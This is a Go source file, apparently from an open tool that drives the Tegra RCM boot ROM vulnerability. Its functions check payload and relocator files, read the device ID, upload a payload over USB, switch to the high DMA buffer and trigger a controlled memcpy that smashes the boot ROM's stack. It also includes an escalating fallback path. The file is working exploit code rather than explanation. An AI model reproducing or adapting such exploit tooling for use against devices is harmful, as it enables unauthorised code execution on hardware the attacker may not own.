// Package exploit drives the RCM vulnerability: building the payload,
// uploading it and smashing the boot ROM's stack.
package exploit

import (
	"context"
	"fmt"
	"os"

	"github.com/golang/glog"

	"github.com/rcmhax/gelee/pkg/payload"
	"github.com/rcmhax/gelee/pkg/rcm"
)

type Request struct {
	PayloadPath   string
	RelocatorPath string

	// BuiltinRelocator assembles a relocator instead of reading RelocatorPath.
	BuiltinRelocator bool

	Options rcm.Options
}

// check makes sure both files are there before the device is touched.
func (r *Request) check() error {
	if _, err := os.Stat(r.PayloadPath); err != nil {
		return fmt.Errorf("payload file does not exist: %s", r.PayloadPath)
	}
	if r.BuiltinRelocator {
		return nil
	}
	if _, err := os.Stat(r.RelocatorPath); err != nil {
		return fmt.Errorf("%w (%s)", payload.ErrRelocatorNotFound, r.RelocatorPath)
	}
	return nil
}

func (r *Request) load(s *rcm.Session) ([]byte, error) {
	target, err := payload.ReadFile(r.PayloadPath)
	if err != nil {
		return nil, fmt.Errorf("failed to read payload file: %w", err)
	}
	if !r.BuiltinRelocator {
		return payload.Build(target, r.RelocatorPath, s.P)
	}
	relocator, err := payload.BuiltinRelocator(s.P)
	if err != nil {
		return nil, err
	}
	return payload.Assemble(target, relocator, s.P)
}

func readDeviceID(s *rcm.Session) {
	// Reading the ID is needed to get the device into the right state, but
	// some devices don't answer it.
	id, err := s.ReadDeviceID()
	if err != nil {
		glog.Warningf("Could not read device ID (this may be normal): %v", err)
		glog.Warningf("Continuing with exploit anyway...")
		return
	}
	glog.Infof("Found a Tegra with Device ID: %x", id)
}

// Inject runs the deterministic exploit path: upload the payload, switch to
// the high DMA buffer, and trigger the controlled memcpy.
func Inject(ctx context.Context, b rcm.Backend, req Request) (string, error) {
	if err := req.check(); err != nil {
		return "", err
	}

	s, err := rcm.Open(ctx, b, req.Options)
	if err != nil {
		return "", err
	}
	defer s.Close()

	readDeviceID(s)

	blob, err := req.load(s)
	if err != nil {
		return "", err
	}

	glog.Infof("Uploading payload (%d bytes)...", len(blob))
	if err := s.Write(blob); err != nil {
		return "", fmt.Errorf("failed to upload payload: %w", err)
	}

	// The boot ROM alternates between two DMA buffers. Make sure we're
	// about to copy from the higher one, so there is less to copy.
	if err := s.SwitchToHighBuf(); err != nil {
		return "", fmt.Errorf("failed to switch to high buffer: %w", err)
	}

	glog.Infof("Smashing the stack...")
	outcome, err := s.TriggerControlledMemcpy(0)
	if err != nil {
		return "", fmt.Errorf("exploit failed: %w", err)
	}
	glog.Infof("Controlled memcpy %s", outcome)
	switch outcome {
	case rcm.TriggerTimedOut:
		return "Payload injection successful! The device crashed as expected, check if your payload is running.", nil
	default:
		return "Payload injection successful! Check your device, it should be running the payload now.", nil
	}
}

type EscalateRequest struct {
	Request
	// Endpoint is the bulk OUT endpoint to target, defaults to the RCM one.
	Endpoint uint8
	// Timing defaults to DefaultTiming.
	Timing *Timing
	// Strategies defaults to DefaultStrategies.
	Strategies []Strategy
	// Diagnose runs Diagnose before any strategy. Its result is only logged.
	Diagnose bool
}

// InjectEscalating opens the device and runs the escalating strategies
// against it, for when the deterministic path does not work.
func InjectEscalating(ctx context.Context, b rcm.Backend, req EscalateRequest) (string, error) {
	if err := req.check(); err != nil {
		return "", err
	}

	s, err := rcm.Open(ctx, b, req.Options)
	if err != nil {
		return "", err
	}
	defer s.Close()

	blob, err := req.load(s)
	if err != nil {
		return "", err
	}

	ep := req.Endpoint
	if ep == 0 {
		ep = s.P.EndpointOut
	}
	t := req.Timing
	if t == nil {
		t = &DefaultTiming
	}
	strategies := req.Strategies
	if strategies == nil {
		strategies = DefaultStrategies(s.P, t)
	}

	if req.Diagnose {
		if err := Diagnose(s.Usb(), ep); err != nil {
			glog.Warningf("Diagnostics failed: %v", err)
		}
	}

	glog.Infof("Starting escalating exploit against endpoint 0x%02x...", ep)
	return Escalate(ctx, s.Usb(), ep, blob, strategies)
}
